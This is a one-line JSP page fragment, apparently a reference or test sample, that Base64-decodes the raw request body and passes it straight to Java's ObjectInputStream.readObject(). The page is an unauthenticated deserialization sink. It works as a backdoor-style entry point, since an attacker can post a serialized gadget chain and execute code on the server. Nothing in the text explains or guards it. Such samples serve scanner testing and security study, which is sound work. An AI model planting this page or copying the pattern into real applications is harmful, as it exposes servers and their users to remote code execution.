<% java.io.ObjectInputStream ois = new java.io.ObjectInputStream(java.util.Base64.getDecoder().wrap(request.getInputStream())); ois.readObject(); /* ref2 */ %>
